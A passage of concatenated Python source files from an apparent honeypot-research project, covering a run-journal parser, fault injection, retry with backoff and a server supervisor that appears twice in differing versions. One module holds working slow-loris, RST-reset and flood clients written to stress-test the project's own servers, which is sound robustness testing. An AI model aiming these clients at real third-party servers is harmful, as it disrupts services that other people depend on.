            f"no run journal at {path} (start a checkpointed run with "
            f"--checkpoint-interval first)")
    raw = path.read_text(encoding="utf-8")
    lines = raw.split("\n")
    # A well-formed journal ends in a newline, leaving one empty string
    # at the end of the split; anything after the last newline is a
    # torn tail by construction.
    torn_candidate = lines[-1] != ""
    lines = [line for line in lines if line]

    view = JournalView(path=path, header=None, checkpoints=[])
    for index, line in enumerate(lines):
        is_last = index == len(lines) - 1
        try:
            record = _unseal(line)
        except ValueError as error:
            if is_last and (torn_candidate or "crc mismatch" not in
                            str(error)):
                # Torn tail: the append in flight when the run died.
                view.torn_tail = True
                break
            if not force:
                raise JournalCorrupt(
                    f"{path}: damaged record on line {index + 1} "
                    f"({error}); re-run with --resume=force to fall "
                    f"back to the last valid checkpoint") from error
            view.dropped = len(lines) - index
            break
        if index == 0:
            if record.get("kind") != "header" or \
                    not str(record.get("schema", "")).startswith(
                        "repro.run_journal/"):
                if not force:
                    raise JournalCorrupt(
                        f"{path}: first record is not a run_journal "
                        f"header")
                view.dropped = len(lines)
                break
            view.header = record
            continue
        kind = record.get("kind")
        if kind == "checkpoint":
            view.checkpoints.append(record)
        elif kind == "resume":
            view.resumes.append(record)
        elif kind == "complete":
            view.complete = record
        elif not force:
            raise JournalCorrupt(
                f"{path}: unknown record kind {kind!r} on line "
                f"{index + 1}")
    if view.header is None and not force:
        raise JournalCorrupt(f"{path}: no journal header record")
    # Checkpoints must be sequential -- a gap means a record vanished.
    for expected, checkpoint in enumerate(view.checkpoints):
        if checkpoint.get("seq") != expected:
            if not force:
                raise JournalCorrupt(
                    f"{path}: checkpoint sequence gap (expected seq "
                    f"{expected}, found {checkpoint.get('seq')!r})")
            view.dropped += len(view.checkpoints) - expected
            view.checkpoints = view.checkpoints[:expected]
            break
    return view
