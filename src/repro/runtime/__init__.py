"""The run-scoped ambient context: telemetry + fault plan, together.

Before this module existed the stack had two independent ambient
singletons -- ``obs.current()`` (telemetry) and ``faults.current()``
(chaos) -- each with its own install dance.  A :class:`RunContext`
bundles both so drivers and replay workers deal with exactly one
object:

* :meth:`RunContext.activate` installs both process-wide (the driver's
  mode, identical to the old nested ``obs.install``/``faults.install``);
* :meth:`RunContext.activate_local` installs both on the current thread
  only, which is how sharded replay workers get private registries and
  fault counters without clobbering each other;
* :meth:`RunContext.report` snapshots everything a worker must hand
  back, and :meth:`RunContext.absorb` folds such a report into the
  driver's context -- counters add, histograms combine, fault
  evaluation/fire counts sum -- so telemetry and chaos accounting stay
  *exact* under parallelism.

Workers build their context with :func:`worker_context`, which clones
the fault plan (same specs and seed, zeroed counters) and gives the
worker a metrics registry of its own with tracing disabled (per-visit
spans are a serial-replay feature; shard timings live in the manifest's
``replay`` section instead).
"""

from __future__ import annotations

from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Iterator, Mapping

from repro import obs
from repro.resilience import faults

__all__ = ["RunContext", "worker_context"]


@dataclass
class RunContext:
    """One run's (or one worker's) ambient telemetry + fault plan."""

    telemetry: obs.Telemetry = field(default_factory=lambda:
                                     obs.NULL_TELEMETRY)
    fault_plan: faults.FaultPlan = field(default_factory=lambda:
                                         faults.NULL_PLAN)

    @contextmanager
    def activate(self) -> Iterator["RunContext"]:
        """Install both halves process-wide for the duration."""
        with obs.install(self.telemetry), faults.install(self.fault_plan):
            yield self

    @contextmanager
    def activate_local(self) -> Iterator["RunContext"]:
        """Install both halves on *this thread* only."""
        with obs.install_local(self.telemetry), \
                faults.install_local(self.fault_plan):
            yield self

    def report(self) -> dict:
        """Picklable snapshot of everything a worker must hand back."""
        metrics = (self.telemetry.metrics.snapshot()
                   if self.telemetry.enabled else None)
        spans = (list(self.telemetry.tracer.spans)
                 if self.telemetry.tracer.enabled else None)
        return {"metrics": metrics, "spans": spans,
                "faults": self.fault_plan.snapshot()}

    def absorb(self, report: Mapping) -> None:
        """Fold a worker's :meth:`report` into this context."""
        metrics = report.get("metrics")
        if metrics:
            self.telemetry.metrics.merge(metrics)
        fault_counts = report.get("faults")
        if fault_counts:
            self.fault_plan.absorb(fault_counts)


def worker_context(telemetry_enabled: bool,
                   fault_payload: Mapping | None, *,
                   tracing: bool = False) -> RunContext:
    """Build the private context one replay worker runs under.

    ``fault_payload`` is :meth:`FaultPlan.payload` of the driver's plan
    (or ``None`` for a clean run); the clone starts with zeroed
    counters so the worker's :meth:`RunContext.report` is exactly its
    own share of the accounting.  With ``tracing`` the worker gets a
    real tracer whose spans travel back in :meth:`RunContext.report`
    for the driver to stitch into one timeline (shard-prefixed pids in
    the Chrome export); without it, tracing is a no-op as before.
    """
    telemetry = obs.Telemetry(enabled=telemetry_enabled)
    if tracing and telemetry_enabled:
        telemetry.tracer = obs.Tracer(
            observer=telemetry.flight.record_span)
    else:
        telemetry.tracer = obs.NullTracer()
    plan = (faults.from_payload(fault_payload)
            if fault_payload is not None else faults.NULL_PLAN)
    return RunContext(telemetry=telemetry, fault_plan=plan)
