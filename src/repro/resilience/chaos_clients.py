"""Abusive TCP clients: the hostile half of the chaos toolkit.

These are the client behaviors that killed real honeypot deployments --
slow-loris dribbles that pin a connection slot forever, and abrupt RST
teardowns that surface ``ConnectionResetError`` in whatever await
happens to be in flight.  The TCP robustness tests (and anyone chaosing
a live ``repro serve``) aim them at :class:`TcpHoneypotServer` to prove
the idle-timeout / byte-cap / containment hardening holds.
"""

from __future__ import annotations

import asyncio
import socket
import struct


async def slow_loris(host: str, port: int, *, chunks: int = 8,
                     interval: float = 0.25,
                     payload: bytes = b"\x00") -> int:
    """Dribble ``payload`` every ``interval`` seconds, never completing
    a request; returns how many chunks the server accepted before it
    (rightly) hung up on us."""
    reader, writer = await asyncio.open_connection(host, port)
    sent = 0
    try:
        for _ in range(chunks):
            writer.write(payload)
            try:
                await writer.drain()
            except (ConnectionResetError, BrokenPipeError):
                break
            sent += 1
            # Bail out as soon as the server closes its end.
            try:
                data = await asyncio.wait_for(reader.read(65536), interval)
            except asyncio.TimeoutError:
                continue
            if not data:
                break
    finally:
        writer.close()
        try:
            await writer.wait_closed()
        except (ConnectionResetError, BrokenPipeError):
            pass
    return sent


async def abrupt_reset(host: str, port: int, *,
                       payload: bytes = b"\x16\x03\x01") -> None:
    """Send a partial payload, then tear the connection down with an RST
    (SO_LINGER 0) instead of a clean FIN."""
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(payload)
    await writer.drain()
    sock = writer.get_extra_info("socket")
    if sock is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                        struct.pack("ii", 1, 0))
    writer.close()
    try:
        await writer.wait_closed()
    except (ConnectionResetError, BrokenPipeError):
        pass


async def flood(host: str, port: int, *, total_bytes: int = 1 << 20,
                chunk_size: int = 65536) -> int:
    """Shovel ``total_bytes`` of garbage at the server as fast as the
    socket allows; returns bytes written before the server cut us off.
    Exercises the ``max_session_bytes`` cap."""
    reader, writer = await asyncio.open_connection(host, port)
    # Flush through to the OS on every drain, so a server that cut us
    # off is noticed immediately instead of after a megabyte of
    # user-space buffering.
    writer.transport.set_write_buffer_limits(0)
    chunk = b"\xff" * chunk_size
    written = 0
    try:
        while written < total_bytes:
            writer.write(chunk[:total_bytes - written])
            try:
                await writer.drain()
            except (ConnectionResetError, BrokenPipeError):
                break
            written += min(chunk_size, total_bytes - written)
            # Probe for the server hanging up: loopback kernel buffers
            # can swallow megabytes before a write ever fails, so an
            # explicit EOF check is the only prompt close signal.
            try:
                data = await asyncio.wait_for(reader.read(65536), 0.001)
                if not data:
                    break
            except asyncio.TimeoutError:
                pass
            except (ConnectionResetError, BrokenPipeError):
                break
    finally:
        writer.close()
        try:
            await writer.wait_closed()
        except (ConnectionResetError, BrokenPipeError):
            pass
    return written
