"""Supervised TCP honeypot servers: restart on crash, bounded backoff.

Alata et al.'s lesson from long-running honeypot deployments is that
the *farm* must outlive any single listener: a crashed server that
stays down both loses data and fingerprints the deployment (a real
database would be restarted by its init system).  The supervisor
watches a set of servers and restarts any that stop serving, with
exponential backoff and a restart budget so a hard-broken listener
cannot flap forever.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from typing import TYPE_CHECKING, Sequence

from repro import obs

if TYPE_CHECKING:  # duck-typed at runtime to avoid an import cycle
    from repro.honeypots.tcp import TcpHoneypotServer


@dataclass(frozen=True)
class SupervisorPolicy:
    """Restart discipline for one supervisor."""

    #: How often to probe server liveness, seconds.
    check_interval: float = 0.5
    #: First restart delay; doubles per consecutive restart of a server.
    base_backoff: float = 0.1
    max_backoff: float = 5.0
    #: Give up on a server after this many restarts.
    max_restarts: int = 5


class ServerSupervisor:
    """Watches :class:`TcpHoneypotServer` objects and restarts dead ones."""

    def __init__(self, servers: "Sequence[TcpHoneypotServer]",
                 policy: SupervisorPolicy = SupervisorPolicy()):
        self.servers = list(servers)
        self.policy = policy
        self.restarts: dict[int, int] = {}
        self.abandoned: set[int] = set()
        self._task: asyncio.Task | None = None

    # -- lifecycle --------------------------------------------------------

    async def start(self) -> None:
        """Begin watching (servers must already be started)."""
        if self._task is None:
            self._task = asyncio.get_running_loop().create_task(
                self._watch())

    async def stop(self) -> None:
        """Stop watching; the servers themselves are left to the caller."""
        if self._task is not None:
            self._task.cancel()
            try:
                await self._task
            except asyncio.CancelledError:
                pass
            self._task = None

    # -- reads ------------------------------------------------------------

    def restarts_total(self) -> int:
        """Restarts performed across all supervised servers."""
        return sum(self.restarts.values())

    # -- internals --------------------------------------------------------

    async def _watch(self) -> None:
        while True:
            await asyncio.sleep(self.policy.check_interval)
            for index, server in enumerate(self.servers):
                if index in self.abandoned or server.is_serving:
                    continue
                await self._restart(index, server)

    async def _restart(self, index: int,
                       server: "TcpHoneypotServer") -> None:
        metrics = obs.current().metrics
        dbms = server.honeypot.dbms
        count = self.restarts.get(index, 0) + 1
        self.restarts[index] = count
        if count > self.policy.max_restarts:
            self.abandoned.add(index)
            metrics.inc("resilience.servers_abandoned", dbms=dbms)
            return
        await asyncio.sleep(min(
            self.policy.base_backoff * 2 ** (count - 1),
            self.policy.max_backoff))
        try:
            await server.stop()  # release any half-dead listener first
            await server.start()
        except OSError:
            # Port still unavailable; the next tick tries again (and
            # burns another unit of the restart budget).
            metrics.inc("resilience.server_restart_failures", dbms=dbms)
            return
        metrics.inc("resilience.server_restarts", dbms=dbms)
