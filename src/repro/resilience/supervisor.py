"""Supervised TCP honeypot servers: restart on crash, bounded backoff.

Alata et al.'s lesson from long-running honeypot deployments is that
the *farm* must outlive any single listener: a crashed server that
stays down both loses data and fingerprints the deployment (a real
database would be restarted by its init system).  The supervisor
watches a set of servers and restarts any that stop serving, with
exponential backoff and a restart budget so a hard-broken listener
cannot flap forever.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from typing import TYPE_CHECKING, Sequence

from repro import obs

if TYPE_CHECKING:  # duck-typed at runtime to avoid an import cycle
    from repro.honeypots.tcp import TcpHoneypotServer


@dataclass(frozen=True)
class SupervisorPolicy:
    """Restart discipline for one supervisor."""

    #: How often to probe server liveness, seconds.
    check_interval: float = 0.5
    #: First restart delay; doubles per consecutive restart of a server.
    base_backoff: float = 0.1
    max_backoff: float = 5.0
    #: Give up on a server after this many restarts.
    max_restarts: int = 5


class ServerSupervisor:
    """Watches :class:`TcpHoneypotServer` objects and restarts dead ones."""

    def __init__(self, servers: "Sequence[TcpHoneypotServer]",
                 policy: SupervisorPolicy = SupervisorPolicy()):
        self.servers = list(servers)
        self.policy = policy
        self.restarts: dict[int, int] = {}
        self.abandoned: set[int] = set()
        self._task: asyncio.Task | None = None

    # -- lifecycle --------------------------------------------------------

    async def start(self) -> None:
        """Begin watching (servers must already be started)."""
        if self._task is None:
            self._task = asyncio.get_running_loop().create_task(
                self._watch())

    async def stop(self) -> None:
        """Stop watching; the servers themselves are left to the caller."""
        if self._task is not None:
            self._task.cancel()
            try:
                await self._task
            except asyncio.CancelledError:
                pass
            self._task = None

    # -- reads ------------------------------------------------------------

    def restarts_total(self) -> int:
        """Restarts performed across all supervised servers."""
        return sum(self.restarts.values())

    def health(self) -> dict:
        """Per-listener state for the ``/healthz`` endpoint.

        Top-level ``status`` is ``"ok"`` only when every supervised
        listener is up and none has been abandoned -- the mapping
        :class:`~repro.obs.live.LiveOpsServer` turns into HTTP
        200 vs 503, so an external uptime probe sees a dead farm
        without parsing the body.
        """
        listeners = []
        for index, server in enumerate(self.servers):
            info = server.honeypot.info
            serving = server.is_serving
            listeners.append({
                "honeypot_id": info.honeypot_id,
                "dbms": info.dbms,
                "interaction": info.interaction,
                "host": server.host,
                "port": server.port,
                "serving": serving,
                "restarts": self.restarts.get(index, 0),
                "abandoned": index in self.abandoned,
            })
        healthy = all(entry["serving"] and not entry["abandoned"]
                      for entry in listeners)
        return {
            "status": "ok" if healthy else "degraded",
            "listeners": listeners,
            "restarts_total": self.restarts_total(),
            "abandoned_total": len(self.abandoned),
        }

    # -- internals --------------------------------------------------------

    async def _watch(self) -> None:
        while True:
            await asyncio.sleep(self.policy.check_interval)
            for index, server in enumerate(self.servers):
                if index in self.abandoned or server.is_serving:
                    continue
                await self._restart(index, server)

    async def _restart(self, index: int,
                       server: "TcpHoneypotServer") -> None:
        telemetry = obs.current()
        metrics = telemetry.metrics
        logger = telemetry.logger
        dbms = server.honeypot.dbms
        honeypot_id = server.honeypot.info.honeypot_id
        count = self.restarts.get(index, 0) + 1
        self.restarts[index] = count
        if count > self.policy.max_restarts:
            self.abandoned.add(index)
            metrics.inc("resilience.servers_abandoned", dbms=dbms)
            logger.error("supervisor.abandoned", honeypot=honeypot_id,
                         dbms=dbms, restarts=count - 1)
            return
        await asyncio.sleep(min(
            self.policy.base_backoff * 2 ** (count - 1),
            self.policy.max_backoff))
        try:
            await server.stop()  # release any half-dead listener first
            await server.start()
        except OSError as error:
            # Port still unavailable; the next tick tries again (and
            # burns another unit of the restart budget).
            metrics.inc("resilience.server_restart_failures", dbms=dbms)
            logger.warning("supervisor.restart_failed",
                           honeypot=honeypot_id, dbms=dbms,
                           attempt=count, error=str(error))
            return
        metrics.inc("resilience.server_restarts", dbms=dbms)
        logger.warning("supervisor.restarted", honeypot=honeypot_id,
                       dbms=dbms, restarts=count, port=server.port)
