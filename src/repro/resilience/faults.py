"""Deterministic fault injection.

A :class:`FaultPlan` maps *site* names (``"wire.corrupt"``,
``"sqlite.locked"``, ...) to :class:`FaultSpec` firing rules.  Injection
sites across the stack ask the ambient plan whether to misbehave::

    faults.current().maybe_raise("sqlite.locked",
                                 lambda: sqlite3.OperationalError(...))

Mirroring :mod:`repro.obs`, the ambient plan defaults to
:data:`NULL_PLAN`, whose every hook is a no-op -- un-chaosed runs pay
nothing beyond an attribute lookup and an empty method call.  Install a
live plan with :func:`install` (or ``ExperimentConfig.fault_plan``).

Every decision is drawn from a per-site ``random.Random`` seeded with
``f"{plan.seed}:{site}"``, so a fixed seed reproduces the exact same
fault schedule -- chaos runs are replayable bug reports, not flakes.

Known injection sites
---------------------

=================  =========================================================
``wire.corrupt``   flip one byte of a client payload (``MemoryWire.send``)
``wire.truncate``  cut a client payload short (``MemoryWire.send``)
``wire.disconnect`` raise ``WireError`` mid-session (driver wire)
``visit.crash``    raise :class:`InjectedFault` inside a visit script
``sqlite.locked``  raise ``sqlite3.OperationalError: database is locked``
``enrich.lookup``  fail one GeoIP/ASN enrichment lookup
``proc.kill``      SIGKILL one (seeded) shard worker process mid-shard
=================  =========================================================

``proc.kill`` is special: it is only evaluated inside forked shard
workers (serial and thread-pool replays never arm it -- the "worker" is
the driver itself there), the victim shard is chosen by a seeded draw
so the kill is reproducible, and ``repro run --resume`` strips the site
from the adopted plan so a resumed run cannot re-kill itself at the
same visit forever.
"""

from __future__ import annotations

import json
import random
import threading
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterator, Mapping

from repro import obs


class InjectedFault(RuntimeError):
    """Raised by :meth:`FaultPlan.maybe_raise` when no error factory is
    given; also the canonical "synthetic crash" exception."""


@dataclass(frozen=True)
class FaultSpec:
    """Firing rule for one injection site.

    Attributes
    ----------
    site:
        Injection-site name the rule applies to.
    probability:
        Chance of firing per evaluation, in ``[0, 1]``.
    max_fires:
        Stop firing after this many hits (``None`` = unbounded).  A
        spec like ``probability=1.0, max_fires=2`` models a transient
        failure: the first two attempts fail deterministically, then
        the site heals -- exactly what retry logic needs to prove
        itself.
    start_after:
        Skip this many evaluations before arming, so a fault can hit
        mid-run rather than on the very first call.
    """

    site: str
    probability: float = 1.0
    max_fires: int | None = None
    start_after: int = 0


class FaultPlan:
    """A named, seeded set of fault specs with deterministic decisions."""

    #: True only on :class:`NullFaultPlan`.  Hot paths resolve
    #: ``faults.current()`` once per visit and branch on this flag to
    #: skip per-message ``mangle()``/``maybe_raise()`` calls entirely;
    #: live plans (even empty ones) always get their calls so their
    #: evaluation counters and RNG draw order stay exactly as configured.
    is_noop = False

    def __init__(self, specs: Mapping[str, FaultSpec] | list[FaultSpec],
                 *, seed: int = 0, name: str = "custom"):
        if not isinstance(specs, Mapping):
            specs = {spec.site: spec for spec in specs}
        self.name = name
        self.seed = seed
        self._specs: dict[str, FaultSpec] = dict(specs)
        self._rngs: dict[str, random.Random] = {}
        self._evaluations: dict[str, int] = {}
        self._fires: dict[str, int] = {}
        self._lock = threading.Lock()

    # -- decision ---------------------------------------------------------

    def _rng(self, site: str) -> random.Random:
        rng = self._rngs.get(site)
        if rng is None:
            rng = self._rngs[site] = random.Random(f"{self.seed}:{site}")
        return rng

    def should_fire(self, site: str, *, key: str | None = None) -> bool:
        """Decide (and record) whether the fault at ``site`` fires now.

        Without ``key``, the decision is drawn from the site's shared
        sequential RNG, so the fault schedule depends on evaluation
        order.  With ``key`` the draw comes from a stateless RNG seeded
        ``{plan.seed}:{site}:{key}`` instead: the decision for a given
        unit of work (e.g. one visit, keyed ``{ip}:{seq}``) is the same
        no matter which worker evaluates it or in what order -- the
        property that keeps chaos runs identical between the serial and
        sharded replay engines.  ``start_after``/``max_fires`` budgets
        still consume the shared counters, so order-sensitive specs are
        only stable under serial execution.
        """
        spec = self._specs.get(site)
        if spec is None:
            return False
        with self._lock:
            seen = self._evaluations.get(site, 0)
            self._evaluations[site] = seen + 1
            if seen < spec.start_after:
                return False
            fired = self._fires.get(site, 0)
            if spec.max_fires is not None and fired >= spec.max_fires:
                return False
            if key is not None:
                draw = random.Random(f"{self.seed}:{site}:{key}").random()
            else:
                draw = self._rng(site).random()
            if draw >= spec.probability:
                return False
            self._fires[site] = fired + 1
        obs.current().metrics.inc("faults.injected", site=site)
        return True

    def maybe_raise(self, site: str,
                    error: Callable[[], BaseException] | None = None,
                    *, key: str | None = None) -> None:
        """Raise the site's fault if it fires; no-op otherwise."""
        if self.should_fire(site, key=key):
            raise error() if error is not None else InjectedFault(
                f"injected fault at {site}")

    def mangle(self, family: str, data: bytes) -> bytes:
        """Corrupt and/or truncate ``data`` per the ``{family}.corrupt``
        and ``{family}.truncate`` sites; returns the (possibly) damaged
        payload."""
        if data and self.should_fire(f"{family}.corrupt"):
            rng = self._rng(f"{family}.corrupt")
            index = rng.randrange(len(data))
            flipped = data[index] ^ (1 + rng.randrange(255))
            data = data[:index] + bytes([flipped]) + data[index + 1:]
        if len(data) > 1 and self.should_fire(f"{family}.truncate"):
            data = data[:self._rng(f"{family}.truncate")
                        .randrange(1, len(data))]
        return data

    # -- reads ------------------------------------------------------------

    @property
    def sites(self) -> list[str]:
        """The configured injection sites, sorted."""
        return sorted(self._specs)

    def fires(self, site: str) -> int:
        """How many times ``site`` has fired so far."""
        with self._lock:
            return self._fires.get(site, 0)

    def fires_total(self) -> int:
        """Total fault activations across all sites."""
        with self._lock:
            return sum(self._fires.values())

    def snapshot(self) -> dict:
        """JSON-serializable ``{site: {evaluations, fires}}`` dump."""
        with self._lock:
            return {site: {"evaluations": self._evaluations.get(site, 0),
                           "fires": self._fires.get(site, 0)}
                    for site in sorted(self._specs)}

    # -- sharding support -------------------------------------------------

    def payload(self) -> dict:
        """Picklable description of this plan (specs + seed + name),
        without the runtime counters -- ship it to a worker and rebuild
        with :func:`from_payload`."""
        return {"specs": dict(self._specs), "seed": self.seed,
                "name": self.name}

    def clone(self) -> "FaultPlan":
        """A fresh plan with the same specs/seed and zeroed counters."""
        return from_payload(self.payload())

    def site_options(self) -> dict[str, dict]:
        """JSON-serializable ``{site: {probability, ...}}`` mapping --
        the :func:`plan_from_dict` inverse, recorded in the run journal
        so a resume can rebuild the exact plan."""
        options: dict[str, dict] = {}
        for site, spec in self._specs.items():
            entry: dict = {"probability": spec.probability}
            if spec.max_fires is not None:
                entry["max_fires"] = spec.max_fires
            if spec.start_after:
                entry["start_after"] = spec.start_after
            options[site] = entry
        return options

    def without_site(self, site: str) -> "FaultPlan":
        """A fresh plan (zeroed counters) with ``site`` removed -- how a
        resume disarms ``proc.kill`` from an adopted chaos plan."""
        specs = {name: spec for name, spec in self._specs.items()
                 if name != site}
        return FaultPlan(specs, seed=self.seed, name=self.name)

    def absorb(self, snapshot: Mapping[str, Mapping[str, int]]) -> None:
        """Fold a worker plan's :meth:`snapshot` counters into this
        plan, so one plan object accounts for the whole sharded run."""
        with self._lock:
            for site, stats in snapshot.items():
                self._evaluations[site] = (self._evaluations.get(site, 0)
                                           + stats.get("evaluations", 0))
                self._fires[site] = (self._fires.get(site, 0)
                                     + stats.get("fires", 0))

    def __repr__(self) -> str:
        return (f"FaultPlan(name={self.name!r}, seed={self.seed}, "
                f"sites={self.sites})")


class NullFaultPlan(FaultPlan):
    """The zero-cost default: nothing ever fires."""

    is_noop = True

    def __init__(self) -> None:
        super().__init__({}, name="none")

    def should_fire(self, site: str, *, key: str | None = None) -> bool:
        return False

    def maybe_raise(self, site: str,
                    error: Callable[[], BaseException] | None = None,
                    *, key: str | None = None) -> None:
        pass

    def mangle(self, family: str, data: bytes) -> bytes:
        return data

    def absorb(self, snapshot: Mapping[str, Mapping[str, int]]) -> None:
        # NULL_PLAN is a shared module-level singleton; never let a
        # stray merge accumulate state on it.
        pass


#: The always-available no-op plan.
NULL_PLAN = NullFaultPlan()

_current: FaultPlan = NULL_PLAN

#: Per-thread override, mirroring :mod:`repro.obs` -- sharded replay
#: workers install their own plan clone without touching the driver's.
_local = threading.local()


def current() -> FaultPlan:
    """The installed fault plan (no-op unless a chaos run installed one).

    A plan installed via :func:`install_local` shadows the process-wide
    plan on its thread.
    """
    override = getattr(_local, "current", None)
    return override if override is not None else _current


@contextmanager
def install(plan: FaultPlan | None) -> Iterator[FaultPlan]:
    """Make ``plan`` the process-wide :func:`current` plan (``None``
    installs :data:`NULL_PLAN`)."""
    global _current
    previous = _current
    _current = plan if plan is not None else NULL_PLAN
    try:
        yield _current
    finally:
        _current = previous


@contextmanager
def install_local(plan: FaultPlan | None) -> Iterator[FaultPlan]:
    """Make ``plan`` the :func:`current` plan on *this thread* only."""
    previous = getattr(_local, "current", None)
    _local.current = plan if plan is not None else NULL_PLAN
    try:
        yield _local.current
    finally:
        _local.current = previous


def from_payload(payload: Mapping) -> FaultPlan:
    """Rebuild a plan from :meth:`FaultPlan.payload` (fresh counters)."""
    return FaultPlan(dict(payload["specs"]), seed=payload["seed"],
                     name=payload["name"])


# -- named plans ----------------------------------------------------------

#: Builtin plans for ``repro chaos --plan <name>``: site -> spec kwargs.
BUILTIN_PLANS: dict[str, dict[str, dict]] = {
    "none": {},
    "wire-corrupt": {
        "wire.corrupt": {"probability": 0.05},
        "wire.truncate": {"probability": 0.02},
    },
    "wire-drop": {
        "wire.disconnect": {"probability": 0.02},
    },
    "visit-crash": {
        "visit.crash": {"probability": 0.01},
    },
    "sqlite-lock": {
        # Transient: the first two insert attempts per run hit a locked
        # database, then the lock clears -- exercising the retry path.
        "sqlite.locked": {"probability": 1.0, "max_fires": 2},
    },
    "enrich-fail": {
        "enrich.lookup": {"probability": 0.05},
    },
    "worker-kill": {
        # SIGKILL one seeded shard worker, once, a little way into its
        # shard -- the kill-resume chaos scenario.  Only armed inside
        # forked workers; see the module docstring.
        "proc.kill": {"probability": 1.0, "max_fires": 1,
                      "start_after": 25},
    },
}
BUILTIN_PLANS["all"] = {
    site: dict(spec)
    # worker-kill stays out of "all": it is a process-level fault that
    # terminates the run rather than stressing a data path.
    for name, sites in BUILTIN_PLANS.items()
    if name not in ("none", "worker-kill")
    for site, spec in sites.items()
}


def plan_from_dict(sites: Mapping[str, Mapping], *, seed: int = 0,
                   name: str = "custom") -> FaultPlan:
    """Build a plan from ``{site: {probability, max_fires, start_after}}``."""
    specs = {}
    for site, options in sites.items():
        unknown = set(options) - {"probability", "max_fires", "start_after"}
        if unknown:
            raise ValueError(f"fault site {site!r}: unknown option(s) "
                             f"{sorted(unknown)}")
        specs[site] = FaultSpec(site=site, **options)
    return FaultPlan(specs, seed=seed, name=name)


def load_plan(name_or_path: str, *, seed: int = 0) -> FaultPlan:
    """Resolve a builtin plan name or a JSON plan file into a plan.

    The JSON format is the :func:`plan_from_dict` mapping.  Raises
    ``ValueError`` for unknown names / malformed files, ``OSError`` for
    unreadable paths.
    """
    builtin = BUILTIN_PLANS.get(name_or_path)
    if builtin is not None:
        return plan_from_dict(builtin, seed=seed, name=name_or_path)
    path = Path(name_or_path)
    if not path.exists():
        raise ValueError(
            f"unknown fault plan {name_or_path!r} (builtin plans: "
            f"{', '.join(sorted(BUILTIN_PLANS))}; or pass a JSON file)")
    try:
        sites = json.loads(path.read_text(encoding="utf-8"))
    except json.JSONDecodeError as error:
        raise ValueError(f"{path} is not valid JSON: {error}") from error
    if not isinstance(sites, dict):
        raise ValueError(f"{path} must contain a JSON object "
                         "{site: {probability, ...}}")
    return plan_from_dict(sites, seed=seed, name=path.stem)
