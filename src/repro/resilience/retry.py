"""Retry with exponential backoff + deterministic jitter.

The converter's SQLite writes are the main consumer: a locked database
(another process holding the write lock, or an injected
``sqlite.locked`` fault) is transient, so the correct response is to
back off and try again -- not to abort a 20-day replay at the final
step.  Retry counts flow into the ambient metrics registry so the run
manifest shows how hard the run had to fight.
"""

from __future__ import annotations

import random
import sqlite3
import time
from dataclasses import dataclass
from typing import Callable, TypeVar

from repro import obs

T = TypeVar("T")


@dataclass(frozen=True)
class RetryPolicy:
    """Shape of one backoff schedule.

    Delays double from ``base_delay`` up to ``max_delay``; each sleep is
    stretched by up to ``jitter * delay`` drawn from the caller's rng,
    so lock-step retry storms de-synchronize while a seeded rng keeps
    the schedule reproducible.
    """

    attempts: int = 5
    base_delay: float = 0.05
    max_delay: float = 1.0
    jitter: float = 0.5


def run_with_retry(action: Callable[[], T], *,
                   is_retryable: Callable[[BaseException], bool],
                   policy: RetryPolicy = RetryPolicy(),
                   rng: random.Random | None = None,
                   sleep: Callable[[float], None] = time.sleep,
                   reset: Callable[[], None] | None = None,
                   metric: str = "resilience.retries",
                   **labels: object) -> T:
    """Run ``action``, retrying failures ``is_retryable`` accepts.

    ``reset`` (e.g. ``connection.rollback``) runs before each retry to
    undo partial effects.  The final attempt's exception propagates;
    non-retryable exceptions propagate immediately.  Each retry
    increments ``metric{labels}``.
    """
    rng = rng if rng is not None else random.Random(0)
    metrics = obs.current().metrics
    delay = policy.base_delay
    for attempt in range(1, policy.attempts + 1):
        try:
            return action()
        except Exception as error:
            if attempt >= policy.attempts or not is_retryable(error):
                raise
            metrics.inc(metric, **labels)
            if reset is not None:
                try:
                    reset()
                except Exception:
                    pass
            sleep(min(delay * (1.0 + policy.jitter * rng.random()),
                      policy.max_delay))
            delay *= 2
    raise AssertionError("unreachable")  # pragma: no cover


def is_sqlite_busy(error: BaseException) -> bool:
    """Whether ``error`` is SQLite's transient lock/busy condition."""
    if not isinstance(error, sqlite3.OperationalError):
        return False
    message = str(error).lower()
    return "locked" in message or "busy" in message


def sqlite_busy_retry(action: Callable[[], T], *,
                      policy: RetryPolicy = RetryPolicy(),
                      rng: random.Random | None = None,
                      sleep: Callable[[float], None] = time.sleep,
                      reset: Callable[[], None] | None = None,
                      **labels: object) -> T:
    """Retry ``action`` over ``database is locked`` / ``busy`` errors."""
    return run_with_retry(action, is_retryable=is_sqlite_busy,
                          policy=policy, rng=rng, sleep=sleep, reset=reset,
                          metric="resilience.sqlite_retries", **labels)
