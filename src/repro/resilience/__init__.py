"""Resilience: deterministic fault injection + crash containment.

Two halves, mirroring how the paper's deployment survived 20 days of
hostile Internet traffic:

* :mod:`repro.resilience.faults` -- a seeded :class:`FaultPlan` that
  makes the stack misbehave on purpose (wire corruption, mid-session
  disconnects, locked SQLite databases, failed enrichment lookups,
  crashing visits), ambient and zero-cost when not installed;
* the hardening that makes those faults survivable --
  :mod:`~repro.resilience.retry` (exponential backoff + jitter),
  :mod:`~repro.resilience.deadletter` (quarantine instead of data
  loss), :mod:`~repro.resilience.supervisor` (restart crashed TCP
  servers), and :mod:`~repro.resilience.chaos_clients` (the abusive
  clients the TCP layer must shrug off).

``repro chaos --plan <name>`` runs the full experiment under a fault
plan and verifies the conservation invariant
``events_generated == events_stored + events_quarantined``.
"""

from repro.resilience.chaos_clients import abrupt_reset, flood, slow_loris
from repro.resilience.deadletter import DeadLetterWriter, read_dead_letters
from repro.resilience.faults import (BUILTIN_PLANS, NULL_PLAN, FaultPlan,
                                     FaultSpec, InjectedFault, current,
                                     from_payload, install, install_local,
                                     load_plan, plan_from_dict)
from repro.resilience.retry import (RetryPolicy, is_sqlite_busy,
                                    run_with_retry, sqlite_busy_retry)
from repro.resilience.supervisor import ServerSupervisor, SupervisorPolicy

__all__ = [
    "BUILTIN_PLANS", "DeadLetterWriter", "FaultPlan", "FaultSpec",
    "InjectedFault", "NULL_PLAN", "RetryPolicy", "ServerSupervisor",
    "SupervisorPolicy", "abrupt_reset", "current", "flood",
